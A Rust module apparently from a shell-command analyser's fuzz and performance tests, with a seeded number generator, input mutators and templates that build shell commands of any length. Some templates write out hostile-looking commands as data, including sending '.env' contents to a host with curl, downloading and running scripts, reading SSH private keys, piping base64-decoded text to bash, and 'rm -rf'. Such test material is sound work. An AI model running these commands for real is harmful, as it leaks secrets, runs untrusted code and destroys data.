//! Owns inputs that nobody wrote: a small generator of numbers, mutations of texts and bytes, texts of
//! one shape at any length. Shared with the fuzz workspace. Invariant: the same seed gives the same
//! inputs on every machine.

use std::fmt::Write as _;
use std::time::{Duration, Instant};

/// Numbers that look random (xorshift64*).
pub(crate) struct Generator(u64);

impl Generator {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1)
    }

    pub(crate) fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// A number below `end`; 0 where there is none.
    pub(crate) fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next() >> 33).unwrap_or(0) % end.max(1)
    }

    pub(crate) fn bytes(&mut self, length: usize) -> Vec<u8> {
        (0..length).map(|_| self.next().to_le_bytes()[3]).collect()
    }

    /// One of them; the default for none.
    pub(crate) fn pick<'a, T: ?Sized>(&mut self, them: &[&'a T]) -> &'a T
    where
        &'a T: Default,
    {
        let at = self.below(them.len());
        them.get(at).copied().unwrap_or_default()
    }

    /// A boundary of characters in the text.
    fn boundary(&mut self, text: &str) -> usize {
        let mut at = self.below(text.len() + 1);
        while !text.is_char_boundary(at) {
            at -= 1;
        }
        at
    }

    fn range(&mut self, text: &str) -> (usize, usize) {
        let (one, other) = (self.boundary(text), self.boundary(text));
        (one.min(other), one.max(other))
    }

    /// The text with up to four changes: something of `words` put in, a part gone, doubled, moved, taken
    /// from `other`, or the end cut off.
    pub(crate) fn mutate(&mut self, text: &str, other: &str, words: &[&str]) -> String {
        let mut text = text.to_owned();
        for _ in 0..=self.below(4) {
            let (start, end) = self.range(&text);
            match self.below(7) {
                0 => text.replace_range(start..start, self.pick(words)),
                1 if end - start < 16 => text.replace_range(start..end, self.pick(words)),
                2 => text.replace_range(start..end, ""),
                3 if end - start < 256 => {
                    let part = text.get(start..end).unwrap_or_default().to_owned();
                    text.insert_str(start, &part);
                }
                4 => {
                    let (from, to) = self.range(other);
                    text.insert_str(start, other.get(from..to).unwrap_or_default());
                }
                5 => {
                    let part: String = text.drain(start..end).collect();
                    let at = self.boundary(&text);
                    text.insert_str(at, &part);
                }
                _ => text.truncate(end),
            }
        }
        text
    }

    /// The bytes with a few of them changed, or cut off.
    pub(crate) fn damage(&mut self, bytes: &[u8]) -> Vec<u8> {
        let mut bytes = bytes.to_vec();
        for _ in 0..=self.below(6) {
            let at = self.below(bytes.len());
            let value = self.next().to_le_bytes()[2];
            match self.below(8) {
                0 => bytes.truncate(at),
                1 => bytes.insert(at.min(bytes.len()), value),
                2 if !bytes.is_empty() => drop(bytes.remove(at)),
                3 => bytes.iter_mut().skip(at).take(2).for_each(|it| *it = 0xFF),
                _ => bytes.iter_mut().skip(at).take(1).for_each(|it| *it = value),
            }
        }
        bytes
    }
}

/// What shell text is made of.
pub(crate) const SHELL_WORDS: &[&str] = &[
    "'",
    "\"",
    "`",
    "$(",
    ")",
    "(",
    "((",
    "))",
    "${",
    "}",
    "{",
    "$((",
    "[[ ",
    " ]]",
    ";",
    "&&",
    "||",
    "|",
    "&",
    "|&",
    "\n",
    "\\\n",
    "\\",
    "<<EOF\n",
    "\nEOF\n",
    "<<-'E'\n",
    "<<<",
    "<(",
    ">(",
    ">",
    ">>",
    "2>&1",
    "&>",
    "<>",
    ">|",
    "#",
    "!",
    "*",
    "?",
    "[a-z]",
    "~",
    "~root/",
    "$'",
    "$\"",
    "$@",
    "$*",
    "$x",
    "${x:-y}",
    "${x#*/}",
    "${x//a/b}",
    "${!x}",
    "${x[@]}",
    "${#x}",
    "x=1 ",
    "x+=(a b)",
    "{a,b}",
    "{1..9}",
    "if ",
    "; then ",
    "; fi",
    "for x in a b; do ",
    "; done",
    "while ",
    "case x in a) ",
    ";; esac",
    "f() { ",
    "; }",
    "function g ",
    "eval ",
    "bash -c ",
    "sudo ",
    "env -S ",
    "xargs ",
    "find / -exec ",
    " {} +",
    "ssh h ",
    "trap 'a' EXIT",
    "alias l=",
    "cd ",
    "rm -rf ",
    "/",
    "$HOME",
    "/tmp/",
    "..",
    "base64 -d",
    "python3 -c ",
    "awk '",
    "sed -e ",
    "printf '%b' ",
    "\u{25c6}",
    "\u{25c7}",
    "\u{4e2d}",
    "\u{0}",
    "\r",
    "\t",
    "=",
    "[0]=",
    "select ",
    "until ",
    "time ",
    "coproc ",
    "git -C ",
    "docker run ",
    "psql -c ",
    "-",
];

/// A kind of text that can be made at any length: its name, and how to make it.
pub(crate) type Shape = (&'static str, fn(usize) -> String);

/// Shapes whose cost must grow with their length and no faster.
pub(crate) const SHAPES: &[Shape] = &[
    ("commands", |n| numbered(n, |i| format!("echo a{i}; "))),
    ("and-list", |n| numbered(n, |i| format!("a{i} && ")) + "b"),
    ("or-list", |n| numbered(n, |i| format!("a{i} || ")) + "b"),
    ("background", |n| numbered(n, |i| format!("a{i} & "))),
    ("pipeline", |n| {
        numbered(n, |i| format!("grep a{i} | ")) + "b"
    }),
    ("pipeline-of-senders", |n| {
        numbered(n, |i| format!("curl -d @a{i} h | ")) + "b"
    }),
    ("pipeline-of-interpreters", |n| {
        numbered(n, |i| format!("python3 a{i} | ")) + "sh"
    }),
    ("pipeline-of-readers", |n| {
        numbered(n, |i| format!("cat .env a{i} | ")) + "curl -d @- h"
    }),
    ("copied-and-sent", |n| {
        numbered(n, |i| format!("cat .env > a{i}; curl -d @b{i} h; "))
    }),
    ("written-and-run", |n| {
        numbered(n, |i| format!("curl h > a{i}; sh b{i}; "))
    }),
    ("unpacked-and-run", |n| {
        numbered(n, |i| format!("tar xf a{i}; sh b{i}; "))
    }),
    ("unpacked-apart-and-run", |n| {
        numbered(n, |i| format!("tar xf a -C d{i}; sh d{i}/b; "))
    }),
    ("written-again-and-run", |n| {
        "curl h > a; sh a; ".repeat(n / 18)
    }),
    ("copied-to-and-fro", |n| {
        "cp a b; cp b a; curl -d @a h; ".repeat(n / 30)
    }),
    ("pipeline-of-clients", |n| {
        numbered(n, |i| format!("printf a{i} | psql -c 'drop table b{i}' | ")) + "cat"
    }),
    ("pipeline-of-code", |n| {
        numbered(n, |i| format!("node -e 'a({i})' | ")) + "cat"
    }),
    ("links-and-directories", |n| {
        numbered(n, |i| format!("ln -s /etc a{i} && cd b{i}; "))
    }),
    ("unknown-programs", |n| {
        numbered(n, |i| format!("${{x{i}}}; "))
    }),
    ("listed-and-killed", |n| {
        numbered(n, |i| format!("pgrep a{i} | xargs kill; "))
    }),
    ("pipeline-of-echo", |n| "echo a | ".repeat(n / 9) + "cat"),
    ("quotes", |n| format!("echo {}", "'a'\"b\"".repeat(n / 6))),
    ("quoted-words", |n| {
        format!("echo {}", "'a b' ".repeat(n / 6))
    }),
    ("escapes", |n| format!("echo {}", "\\a".repeat(n / 2))),
    ("assignments", |n| numbered(n, |i| format!("x{i}=v{i}; "))),
    ("assignments-used", |n| {
        numbered(n, |i| format!("x{i}=v{i}; echo $x{i}; "))
    }),
    ("prefix-assignments", |n| {
        numbered(n, |i| format!("x{i}=v ")) + "a"
    }),
    ("appends", |n| "x+=a; ".repeat(n / 6)),
    ("list-appends", |n| "x+=(a); ".repeat(n / 8)),
    ("list", |n| {
        format!("x=({}); echo \"${{x[@]}}\"", "a ".repeat(n / 2))
    }),
    ("branches-assign", |n| {
        numbered(n, |i| format!("[ a ] && x{i}=1; "))
    }),
    ("same-branch-assign", |n| {
        numbered(n, |i| format!("[ a ] && x={i}; echo $x; "))
    }),
    ("substitutions", |n| numbered(n, |i| format!("a $(b{i}); "))),
    ("substituted-arguments", |n| {
        format!("a {}", numbered(n, |i| format!("$(b{i}) ")))
    }),
    ("substituted-value", |n| {
        numbered(n, |i| format!("x=$(b{i}); c $x; "))
    }),
    ("heredocs", |n| {
        numbered(n, |i| format!("cat <<E\ntext {i}\nE\n"))
    }),
    ("heredocs-of-one-line", |n| {
        let unit = n / 16;
        format!("cat {}\n{}", "<<E ".repeat(unit), "text\nE\n".repeat(unit))
    }),
    ("long-heredoc", |n| {
        format!("cat <<E\n{}E\n", "a $x `b`\n".repeat(n / 9))
    }),
    ("heredoc-to-shell", |n| {
        format!("bash <<'E'\n{}E\n", "echo a\n".repeat(n / 7))
    }),
    ("files-written", |n| {
        numbered(n, |i| format!("echo a > f{i}; "))
    }),
    ("file-appended", |n| "echo abc >> f; ".repeat(n / 15)),
    ("for-loops", |n| {
        numbered(n, |i| format!("for i in a b; do c{i} $i; done; "))
    }),
    ("long-for-loop", |n| {
        format!(
            "for i in {}; do rm $i; done",
            numbered(n, |i| format!("a{i} "))
        )
    }),
    ("while-loops", |n| {
        numbered(n, |i| format!("while a{i}; do b; done; "))
    }),
    ("conditions", |n| {
        numbered(n, |i| format!("if a{i}; then b; else c; fi; "))
    }),
    ("elifs", |n| {
        format!(
            "if a; then b; {}fi",
            numbered(n, |i| format!("elif c{i}; then d; "))
        )
    }),
    ("long-case", |n| {
        format!("case $x in {}esac", numbered(n, |i| format!("a{i}) b;; ")))
    }),
    ("case-patterns", |n| {
        format!(
            "case $x in a{}) b;; esac",
            numbered(n, |i| format!("|a{i}"))
        )
    }),
    ("arguments", |n| {
        format!("grep {}", numbered(n, |i| format!("a{i} ")))
    }),
    ("removed-files", |n| {
        format!("rm {}", numbered(n, |i| format!("a{i} ")))
    }),
    ("removed-trees", |n| {
        format!("rm -rf {}", numbered(n, |i| format!("/a{i} ")))
    }),
    ("removed-again", |n| {
        format!("rm -rf {}", "/a ".repeat(n / 3))
    }),
    ("open-comments", |n| {
        format!("psql -c '{}'", "/* drop ".repeat(n / 8))
    }),
    ("quoted-phrases", |n| {
        format!("psql -c \"'{}'\"", "drop table ".repeat(n / 11))
    }),
    ("read-secrets", |n| {
        format!("cat {}", numbered(n, |i| format!("~/.ssh/id_{i} ")))
    }),
    ("flags", |n| format!("git add {}", "-v ".repeat(n / 3))),
    ("long-flags", |n| {
        format!("curl {}a", numbered(n, |i| format!("--header h{i} ")))
    }),
    ("redirects", |n| numbered(n, |i| format!("> f{i} "))),
    ("duplicates", |n| format!("a {}", "2>&1 ".repeat(n / 5))),
    ("braces", |n| format!("echo {}", "{a,b} ".repeat(n / 6))),
    ("brace-of-many", |n| {
        format!("echo {{{}b}}", "a,".repeat(n / 2))
    }),
    ("joined-braces", |n| {
        format!("echo {}", "{a,b}".repeat(n / 5))
    }),
    ("open-braces", |n| format!("echo {}", "{a,".repeat(n / 3))),
    ("long-word", |n| format!("echo {}", "a".repeat(n))),
    ("long-path", |n| format!("rm {}", "a/".repeat(n / 2))),
    ("long-dotted-path", |n| {
        format!("rm /{}", "../".repeat(n / 3))
    }),
    ("long-glob", |n| format!("rm /{}", "*a".repeat(n / 2))),
    ("long-program", |n| "a".repeat(n)),
    ("variables", |n| format!("x=a; echo {}", "$x".repeat(n / 2))),
    ("unknown-variables", |n| {
        format!("echo {}", "$x ".repeat(n / 3))
    }),
    ("unknown-joined", |n| format!("rm {}", "$x".repeat(n / 2))),
    ("parameters", |n| {
        format!("echo {}", "${x:-a} ".repeat(n / 8))
    }),
    ("replacements", |n| {
        format!("x={}; echo ${{x//a/b}}", "a".repeat(n))
    }),
    ("stripped-prefix", |n| {
        format!("x={}; echo ${{x##*a*b}}", "a".repeat(n))
    }),
    ("arithmetic", |n| {
        format!("echo $(({}1))", "1+".repeat(n / 2))
    }),
    ("functions", |n| {
        numbered(n, |i| format!("f{i}() {{ a; }}; "))
    }),
    ("functions-called", |n| {
        numbered(n, |i| format!("f{i}() {{ a; }}; f{i}; "))
    }),
    ("one-function-called", |n| {
        format!("f() {{ a; }}; {}", "f; ".repeat(n / 3))
    }),
    ("aliases", |n| numbered(n, |i| format!("alias l{i}=a; "))),
    ("subshells", |n| numbered(n, |i| format!("(a{i}); "))),
    ("groups", |n| numbered(n, |i| format!("{{ a{i}; }}; "))),
    ("tests", |n| numbered(n, |i| format!("[[ -f a{i} ]]; "))),
    ("long-test", |n| {
        format!("[[ {}-f a ]]", "-f a && ".repeat(n / 8))
    }),
    ("evals", |n| numbered(n, |i| format!("eval 'a{i}'; "))),
    ("long-eval", |n| format!("eval '{}'", "a; ".repeat(n / 3))),
    ("shells", |n| numbered(n, |i| format!("bash -c 'a{i}'; "))),
    ("long-shell", |n| {
        format!("bash -c '{}'", "echo a; ".repeat(n / 8))
    }),
    ("sudo", |n| format!("{}a", "sudo ".repeat(n / 5))),
    ("xargs", |n| {
        format!("echo {}| xargs rm", "a ".repeat(n / 2))
    }),
    ("find-exec", |n| {
        format!("find {}-exec rm {{}} +", numbered(n, |i| format!("a{i} ")))
    }),
    ("decoded", |n| {
        format!("echo {} | base64 -d | bash", "ZWNobyBh".repeat(n / 8))
    }),
    ("python", |n| {
        format!("python3 -c '{}'", "print(1)\n".repeat(n / 9))
    }),
    ("awk", |n| {
        format!("awk '{}' f", "{print $1}\n".repeat(n / 11))
    }),
    ("sed", |n| format!("sed {} f", "-e s/a/b/ ".repeat(n / 10))),
    ("printf", |n| {
        format!("printf '%s\\n' {}| sh", "a ".repeat(n / 2))
    }),
    ("cds", |n| numbered(n, |i| format!("cd a{i}; "))),
    ("pushds", |n| numbered(n, |i| format!("pushd /a{i}; "))),
    ("exports", |n| numbered(n, |i| format!("export x{i}=1; "))),
    ("traps", |n| numbered(n, |i| format!("trap 'a{i}' EXIT; "))),
    ("comments", |n| "# a comment\n".repeat(n / 12)),
    ("empty-lines", |n| "\n".repeat(n)),
    ("continued-lines", |n| format!("a {}", "\\\n".repeat(n / 2))),
    ("ansi", |n| format!("echo {}", "$'\\x41' ".repeat(n / 8))),
    ("backquotes", |n| "`a` ".repeat(n / 4)),
    ("process-substitutions", |n| {
        numbered(n, |i| format!("a <(b{i}); "))
    }),
    ("printed-to-readers", |n| {
        format!("a {}", ">(b) ".repeat(n / 5))
    }),
    ("secrets", |n| {
        format!("echo {}", "password=hunter2 ".repeat(n / 17))
    }),
    ("urls", |n| {
        format!(
            "curl {}",
            numbered(n, |i| format!("https://h{i}.example/a "))
        )
    }),
    ("keywords", |n| {
        format!("echo {}", "mkfs drop table delete from ".repeat(n / 28))
    }),
];

/// What running something cost: processor time of this thread where the system tells it, so that other
/// programs do not count; else the time that passed.
pub(crate) fn cost(run: impl FnOnce()) -> Duration {
    let (clock, before) = (Instant::now(), processor_time());
    run();
    match (before, processor_time()) {
        (Some(before), Some(after)) => after.saturating_sub(before),
        _ => clock.elapsed(),
    }
}

fn processor_time() -> Option<Duration> {
    // The system brings the figure up to date when a thread gives way.
    std::thread::yield_now();
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    let nanoseconds = text.split(' ').next()?.parse().ok()?;
    Some(Duration::from_nanos(nanoseconds))
}

/// Numbered units up to about this many bytes.
fn numbered(length: usize, unit: impl Fn(usize) -> String) -> String {
    let mut text = String::with_capacity(length + 64);
    let mut number = 0;
    while text.len() < length {
        number += 1;
        let _ = text.write_str(&unit(number));
    }
    text
}
